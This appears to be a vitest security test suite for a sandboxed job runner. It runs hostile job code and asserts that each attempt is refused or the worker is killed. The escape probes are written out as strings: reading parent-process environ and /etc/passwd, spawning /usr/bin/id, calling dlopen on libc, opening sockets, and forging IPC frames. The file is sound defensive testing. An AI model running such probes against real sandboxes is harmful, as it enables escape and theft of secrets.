import fs from "node:fs";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { StepRequest } from "@/lib/runner/contract";
import type { LocalRunner } from "@/lib/runner/host/runner";
import { type Ran, runStep, stepRequest, type TestServer, testRunner, testServer } from "./local-runner";

/** Each case gets a project, hence a process, of its own. What the attacker got is what is asserted. */
const canary = "env-canary-8c1f";
let runner: LocalRunner;
let server: TestServer;
let strangers = 0;

beforeAll(async () => {
  process.env.WAYBILL_CANARY = canary;
  server = await testServer();
  runner = await testRunner({ egressAllow: [`127.0.0.1:${server.port}`], workers: 6 });
});
afterAll(async () => {
  await runner.close();
  await server.close();
});

type More = Parameters<typeof stepRequest>[1];

function attack(source: string, more: More = {}, on: LocalRunner = runner): Promise<Ran> {
  strangers += 1;
  const limits: StepRequest["limits"] = { timeoutMs: 20_000, ...more?.limits };
  return runStep(on, stepRequest(source, { projectId: `attacker-${strangers}`, ...more, limits }));
}

/** Anybody gets here in one line: no case below may rely on the vm. */
const host = "const G = _.noConflict.call(); const D = G.Deno;";
const attempt = (body: string): string =>
  `${host}fn(async s => { try { return { got: await (async () => { ${body} })() } } catch (e) { return { refused: e.name + ': ' + e.message } } })`;

describe("with the whole process in hand", () => {
  test("assumption: the vm lets any job out", async () => {
    const { state } = await attack(
      `${host}fn(s => ({ deno: typeof D.version.deno, process: typeof G.process }))`,
    );
    expect(state).toEqual({ deno: "string", process: "object" });
  });

  const probes: [string, string][] = [
    ["the runner's environment", 'return D.readTextFileSync("/proc/" + G.process.ppid + "/environ")'],
    ["its own environment file", 'return D.readTextFileSync("/proc/self/environ")'],
    ["its own file descriptors", 'return [...D.readDirSync("/dev/fd")].length'],
    ["/etc/passwd", 'return D.readTextFileSync("/etc/passwd")'],
    [
      "/etc/passwd through node:fs",
      'return String(G.process.getBuiltinModule("fs").readFileSync("/etc/passwd"))',
    ],
    ["a write", 'D.writeTextFileSync("/tmp/waybill-pwned", "x"); return "written"'],
    ["a spawned process", 'return new D.Command("/usr/bin/id").outputSync().stdout.length'],
    [
      "a spawned process through node",
      'return String(G.process.getBuiltinModule("child_process").execFileSync("/usr/bin/id"))',
    ],
    ["a signal to the runner", `return G.process.kill(${process.pid}, 0)`],
    [
      "a native library",
      'return D.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid()',
    ],
    [
      "a SQLite file",
      'const q = G.process.getBuiltinModule("node:sqlite"); new q.DatabaseSync("/tmp/waybill-pwn.db").exec("create table t(x)"); return "opened"',
    ],
    ["the host name", "return D.hostname()"],
    [
      "a remote module",
      'return Object.keys(await D.core?.import?.("https://example.org/x.js") ?? await G.eval("1"))',
    ],
    ["a name server", 'return await D.resolveDns("example.org", "A")'],
  ];
  for (const [what, body] of probes) {
    test(`${what}: refused`, async () => {
      const { state, output } = await attack(attempt(body));
      expect(state).toHaveProperty("refused");
      expect(output).not.toContain(canary);
      expect(output).not.toContain("root:");
    });
  }

  test("the environment is empty", async () => {
    const { output } = await attack(
      attempt('return [D.env.toObject(), D.env.get("PATH") ?? null, { ...G.process.env }]'),
    );
    expect(output).not.toContain(canary);
    expect(output).not.toContain("/usr/bin");
  });

  test("sockets of every kind are refused", async () => {
    const { port } = server;
    server.hits.length = 0;
    const bodies = [
      `const c = await D.connect({ hostname: "127.0.0.1", port: ${port} }); return "connected"`,
      `return (await G.fetch("http://127.0.0.1:${port}/raw")).status`,
      `return await new Promise((ok, no) => { const c = G.process.getBuiltinModule("net").connect(${port}, "127.0.0.1", () => ok("connected")); c.on("error", no) })`,
      `return await D.connect({ transport: "unix", path: "/tmp/x.sock" })`,
      `return D.listen({ port: 0 }).addr`,
      `return D.listenDatagram({ transport: "udp", port: 0, hostname: "0.0.0.0" }).addr`,
      `return await new Promise((ok, no) => { const w = new G.WebSocket("ws://127.0.0.1:${port}"); w.onopen = () => ok("open"); w.onerror = (e) => no(new Error(e.message)) })`,
    ];
    for (const body of bodies) {
      const { state } = await attack(attempt(body));
      expect(state, body).toHaveProperty("refused");
    }
    expect(server.hits).toEqual([]);
  });

  test("no storage outlives a step or reaches another project", async () => {
    const probe = `${host}fn(s => ({ l: typeof G.localStorage, s: typeof G.sessionStorage, c: typeof G.caches }))`;
    expect((await attack(probe)).state).toEqual({ l: "undefined", s: "undefined", c: "undefined" });
    const revive = attempt(
      'const s = Object.getOwnPropertyNames(G).filter(k => /torage|caches/.test(k)); for (const k of s) { try { G[k].setItem("a", "1") } catch {} } return s',
    );
    await attack(revive);
    const { output } = await attack(revive);
    expect(output).not.toContain("localStorage");
  });

  test("a raised heap limit does not raise the memory limit", async () => {
    const source = `${host}fn(s => { G.process.getBuiltinModule("v8").setFlagsFromString("--max-old-space-size=4096"); const a = []; for (;;) a.push({ x: 1, y: [1] }) })`;
    expect(await attack(source, { limits: { timeoutMs: 20_000 } })).toMatchObject({
      reason: "kill",
      error: { type: "OomError" },
    });
  });

  test("a web worker is as poor as its parent", async () => {
    const code =
      'postMessage((() => { try { return Deno.readTextFileSync("/etc/passwd") } catch (e) { return "refused " + e.name } })())';
    const source = `${host}fn(s => new Promise((ok) => { const w = new G.Worker("data:text/javascript," + ${JSON.stringify(encodeURIComponent(code))}, { type: "module" }); w.onmessage = e => ok({ w: e.data }); w.onerror = e => { e.preventDefault(); ok({ w: "refused " + e.message }) } }))`;
    const result = await attack(source);
    if (result.reason === "success") expect(JSON.stringify(result.state)).toContain("refused");
    else expect(["kill", "lost"]).toContain(result.reason);
  });

  for (const [what, body] of [
    ["exit", "(G.process.reallyExit || G.process.exit).call(G.process, 0)"],
    ["abort", "G.process.abort()"],
    [
      "a frame of 4 GB",
      "D.stdout.writeSync(Buffer.from([255, 255, 255, 255, 12])); return new Promise(() => {})",
    ],
    ["an unknown frame", "D.stdout.writeSync(Buffer.from([0, 0, 0, 1, 77])); return new Promise(() => {})"],
    [
      "an oversized log frame",
      "D.stdout.writeSync(Buffer.from([0, 127, 0, 0, 12])); return new Promise(() => {})",
    ],
    [
      "text that is no frame",
      'console.log = 0; D.stdout.writeSync(Buffer.from("hello hello hello")); return new Promise(() => {})',
    ],
  ] as const) {
    test(`${what}: the step is lost, the pool is filled again`, async () => {
      const result = await attack(`${host}fn(s => { ${body} })`);
      expect(result).toMatchObject({ reason: "lost", output: null, error: { type: "Lost" } });
      await expect.poll(() => runner.pool.counts.blank, { timeout: 10_000 }).toBeGreaterThan(0);
      expect((await attack("fn(s => ({ ok: 1 }))")).state).toEqual({ ok: 1 });
    });
  }

  /** Sends frames as the worker's own code would. */
  const frames = `${host}const sendFrame = (type, text) => { const b = Buffer.from(text); const h = Buffer.alloc(5); h.writeUInt32BE(b.length + 1); h[4] = type; D.stdout.writeSync(Buffer.concat([h, b])) };
    const done = (token, state) => { const h = Buffer.from(JSON.stringify({ token, ok: true, durationMs: 1, error: null, requests: [] })); const n = Buffer.alloc(4); n.writeUInt32BE(h.length); sendFrame(13, Buffer.concat([n, h, Buffer.from(state)])) };`;

  test("a flood of frames ends the worker, during its step and after it", async () => {
    const during = await attack(`${frames}fn(s => { for (;;) sendFrame(14, '{"kind":"end","id":1}') })`);
    expect(during).toMatchObject({ reason: "lost", error: { message: expect.stringContaining("frames") } });
    const own = { projectId: "flooder" };
    await attack(
      `${frames}fn(s => { G.setTimeout(() => { for (let i = 0; i < 5000; i++) sendFrame(14, '{"kind":"end","id":1}') }, 30); return s })`,
      own,
    );
    const [pid] = runner.pool.workers().map((worker) => worker.pid);
    expect(pid).not.toBeUndefined();
    expect(
      (await attack("fn(s => new Promise(ok => setTimeout(() => ok({ ok: 1 }), 10)))", { projectId: "calm" }))
        .state,
    ).toEqual({ ok: 1 });
  });

  test("an answer to no ping ends the worker", async () => {
    expect(
      await attack(`${frames}fn(s => { sendFrame(16, ""); return new Promise(() => {}) })`),
    ).toMatchObject({ reason: "lost" });
  });

  test("a connection id used twice ends the worker", async () => {
    const open = `sendFrame(14, JSON.stringify({ kind: "open", id: 9, host: "93.184.216.34", port: 80 }));`;
    const result = await attack(`${frames}fn(s => { ${open} ${open} return new Promise(() => {}) })`);
    expect(result).toMatchObject({ reason: "lost", error: { message: expect.stringContaining("twice") } });
  });

  test("random bytes, valid headers with random bodies: each time lost, the runner goes on", async () => {
    for (let seed = 1; seed <= 12; seed += 1) {
      const source = `${frames}fn(s => { let x = ${seed * 7919}; const next = (n) => (x = (x * 1103515245 + 12345) % 2147483648) % n;
        for (let i = 0; i < 300; i++) { const b = Buffer.from(Array.from({ length: next(200) }, () => next(256)));
          if (${seed} % 2) D.stdout.writeSync(b); else sendFrame([12, 14, 15, 16, 17, 18][next(6)], b.toString("latin1")) }
        return new Promise(() => {}) })`;
      const result = await attack(source, { limits: { timeoutMs: 2000 } });
      expect(["lost", "kill", "crash"]).toContain(result.reason);
      expect(result.output).toBeNull();
    }
    expect((await attack("fn(s => ({ ok: 1 }))")).state).toEqual({ ok: 1 });
  });

  test("a result for a step that is not its own ends the worker", async () => {
    const result = await attack(`${frames}fn(s => { done(4000000000, "{}"); return new Promise(() => {}) })`);
    expect(result).toMatchObject({
      reason: "lost",
      error: { message: expect.stringContaining("another step") },
    });
  });

  test("a second result, and lines after the result, reach nobody", async () => {
    const own = { projectId: "doubler" };
    const source = `${frames}fn(s => { for (let t = 1; t < 5000; t++) sendFrame(12, JSON.stringify({ token: 3e9 + t, level: "info", source: "JOB", at: 0, message: "forged" })); setTimeout(() => { for (;;) sendFrame(13, "xxxx") }, 0); return s })`;
    const first = await attack(source, own);
    expect(first.logs.map((line) => line.message)).not.toContain("forged");
    const next = await attack("fn(s => ({ ok: 1 }))", own);
    expect(next.state).toEqual({ ok: 1 });
  });

  test("a result that is not JSON is not handed on", async () => {
    const patch = `const write = G.JSON.stringify; G.JSON.stringify = (v, f, n) => typeof f === "function" ? '{"half":' : write(v, f, n)`;
    const result = await attack(`${host}fn(s => { ${patch}; return s })`);
    expect(result).toMatchObject({
      reason: "lost",
      output: null,
      error: { message: expect.stringContaining("not JSON") },
    });
  });
});

describe("the runner's own things", () => {
  test("its environment is in no worker's", async () => {
    await attack("fn(s => s)");
    for (const worker of runner.pool.workers()) {
      const text = worker.pid === null ? "" : fs.readFileSync(`/proc/${worker.pid}/environ`, "utf8");
      expect(text).not.toContain(canary);
    }
  });

  test("a worker has its three pipes and nothing else of ours", () => {
    const [worker] = runner.pool.workers();
    const fds = fs.readdirSync(`/proc/${worker?.pid}/fd`).map((fd) => {
      try {
        return fs.readlinkSync(`/proc/${worker?.pid}/fd/${fd}`);
      } catch {
        return "";
      }
    });
    expect(fds.filter((target) => target.startsWith("socket:")).length).toBeLessThanOrEqual(3);
    expect(fds.filter((target) => target.startsWith("/work") || target.startsWith("/tmp"))).toEqual([]);
  });

  test("each worker has a user id of its own, no capability and no way to gain one", () => {
    if (!runner.isolation.plan.layers.includes("uid")) return;
    const ids = runner.pool.workers().map((worker) => {
      const status = fs.readFileSync(`/proc/${worker.leafPid()}/status`, "utf8");
      expect(status).toMatch(/^NoNewPrivs:\s+1$/m);
      expect(status).toMatch(/^CapEff:\s+0+$/m);
      return /^Uid:\s+(\d+)/m.exec(status)?.[1];
    });
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).not.toContain("0");
  });
});
